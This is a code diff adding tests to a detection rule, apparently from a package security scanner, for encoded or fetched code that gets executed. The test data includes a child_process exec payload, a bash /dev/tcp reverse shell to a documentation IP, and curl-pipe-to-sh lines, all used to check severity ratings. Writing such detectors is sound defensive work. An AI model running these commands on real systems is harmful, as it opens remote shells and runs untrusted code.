@@ -1,9 +1,15 @@
-// Decoded and fetched code that runs: from hand-made facts.
+// Decoded and fetched code that runs: from code and from hand-made facts.
 import { expect, test } from 'vitest';
 import type { Origin } from '../../src/model/behavior.ts';
 import { fact, judgeCode, severities, text } from '../support/code-facts.ts';
+import { judgedCode } from '../support/code-rules.ts';
 
 const ID = 'encoded-payload-executed';
+
+test('the packages of its fixtures', async () => {
+  expect((await judgedCode(ID, 'bad')).map(({ severity, title }) => [severity, title])).toEqual([['critical', 'fixture-payload 1.0.0 decodes code and runs it']]);
+  expect(await judgedCode(ID, 'good')).toEqual([]);
+});
 const evaluates = (origin: Origin, more: Parameters<typeof fact<'dynamic-code'>>[1] = {}) => fact('dynamic-code', { origins: [origin], ...more });
 const PAYLOAD = "require('child_process').exec('id')";
 
@@ -18,6 +24,8 @@ test.each([
   ['what a caller gives', evaluates({ kind: 'argument' }), []],
   ['a hidden name of a dangerous module', evaluates(text('child_process', 'base64'), { api: 'require' }), ['high']],
   ['a hidden name of another module', evaluates(text('lodash', 'base64'), { api: 'require' }), ['medium']],
+  ['code in a data address', evaluates(text('data:text/javascript;base64,cmVxdWlyZQ=='), { api: 'import', code: PAYLOAD }), ['critical']],
+  ['a module from text of a package', evaluates(text(PAYLOAD, 'base64'), { api: 'require-from-string' }), ['critical']],
   ['a packed worker', evaluates(text("self.onmessage = () => fetch('x')", 'base64'), { api: 'new Worker' }), ['medium']],
 ] as const)('%s', async (_case, behavior, expected) => {
   expect(await severities(ID, [behavior])).toEqual(expected);
@@ -48,4 +56,20 @@ test('hidden code counts in an obfuscated file alone', async () => {
   expect(await severities(ID, [hidden])).toEqual([]);
   expect(await severities(ID, [hidden, fact('obfuscation')])).toEqual(['high']);
   expect(await severities(ID, [hidden, fact('obfuscation', { file: 'other.js' })])).toEqual([]);
+});
+
+test('a shell for another host', async () => {
+  const shell = fact('process', { command: '/bin/sh', api: 'child_process.spawn' });
+  const socket = (host: string) => fact('network', { method: 'socket', host, origins: [text(host)] });
+  expect(await severities(ID, [shell, socket('203.0.113.7')])).toEqual(['high']);
+  expect(await severities(ID, [shell, socket('127.0.0.1')])).toEqual([]);
+  expect(await severities(ID, [shell])).toEqual([]);
+  expect(await severities(ID, [fact('process', { command: 'bash -c "bash -i >& /dev/tcp/203.0.113.7/2333 0>&1"' })])).toEqual(['high']);
+});
+
+test('a script fetched on a command line in plain sight', async () => {
+  const line = (address: string) => [fact('process', { command: `curl -fsSL ${address} | sh` })];
+  expect(await severities(ID, line('https://get.example.com/i.sh'))).toEqual(['medium']);
+  expect(await severities(ID, line('http://203.0.113.7/i.sh'))).toEqual(['high']);
+  expect(await severities(ID, line('https://get.own.example.com/i.sh'), { says: ['get.own.example.com'] })).toEqual([]);
 });
